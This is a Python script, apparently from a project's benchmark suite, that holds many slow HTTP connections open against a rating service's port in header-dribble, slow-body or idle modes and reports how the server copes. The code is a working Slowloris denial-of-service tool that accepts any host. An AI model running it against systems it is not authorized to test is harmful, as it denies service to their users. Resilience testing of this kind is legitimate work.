#!/usr/bin/env python3
"""benchmarks/scripts/slowloris.py: holds slow connections open against a rater's rating port.

Used by benchmarks/scripts/slowloris.sh. Opens CONNECTIONS sockets to HOST:PORT; each sends the
start of a request and then one more byte every INTERVAL seconds, never finishing it:
  headers  the request line and a header whose value never ends (header dribble)
  body     complete headers with Content-Length: 1000000 and a body one byte at a time
  idle     nothing at all after connecting
A connection the server closes is counted and opened again at once, so CONNECTIONS stay open as
far as the server lets them. Prints one status line a second and, on SIGTERM/SIGINT, a final
machine-readable line:
  SLOWLORIS_RESULT mode=M target=N open=N opened=N closed_by_server=N connect_failures=N
Usage: slowloris.py HOST PORT [CONNECTIONS=200] [MODE=headers] [INTERVAL=1]
"""
import signal
import socket
import sys
import time

host = sys.argv[1]
port = int(sys.argv[2])
target = int(sys.argv[3]) if len(sys.argv) > 3 else 200
mode = sys.argv[4] if len(sys.argv) > 4 else "headers"
interval = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0

STARTS = {
    "headers": b"POST /v1/rate HTTP/1.1\r\nHost: rater\r\nX-Slow: ",
    "body": b"POST /v1/rate HTTP/1.1\r\nHost: rater\r\nX-Tenant-Id: acme-bank\r\n"
    b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{",
    "idle": b"",
}
if mode not in STARTS:
    sys.exit("slowloris.py: MODE must be headers, body or idle, got " + mode)

stats = {"opened": 0, "closed_by_server": 0, "connect_failures": 0}
sockets = []
running = True


def stop(*_):
    global running
    running = False


signal.signal(signal.SIGTERM, stop)
signal.signal(signal.SIGINT, stop)


def connect():
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        if STARTS[mode]:
            s.send(STARTS[mode])
        stats["opened"] += 1
        return s
    except OSError:
        stats["connect_failures"] += 1
        return None


def server_closed(s):
    """Sends the next byte (or peeks, when idle); true when the server has closed the socket."""
    try:
        if mode == "idle":
            return s.recv(1, socket.MSG_PEEK) == b""
        s.send(b"a")
        return False
    except BlockingIOError:
        return False
    except OSError:
        return True


last_report = 0.0
while running:
    tick = time.monotonic()
    kept = []
    for s in sockets:
        if server_closed(s):
            stats["closed_by_server"] += 1
            s.close()
        else:
            kept.append(s)
    sockets = kept
    while running and len(sockets) < target:
        s = connect()
        if s is None:
            break
        sockets.append(s)
    if tick - last_report >= 1:
        last_report = tick
        print(
            "slowloris: open=%d opened=%d closed_by_server=%d connect_failures=%d"
            % (len(sockets), stats["opened"], stats["closed_by_server"], stats["connect_failures"]),
            flush=True,
        )
    time.sleep(max(0.0, interval - (time.monotonic() - tick)))

print(
    "SLOWLORIS_RESULT mode=%s target=%d open=%d opened=%d closed_by_server=%d connect_failures=%d"
    % (mode, target, len(sockets), stats["opened"], stats["closed_by_server"], stats["connect_failures"]),
    flush=True,
)
for s in sockets:
    s.close()
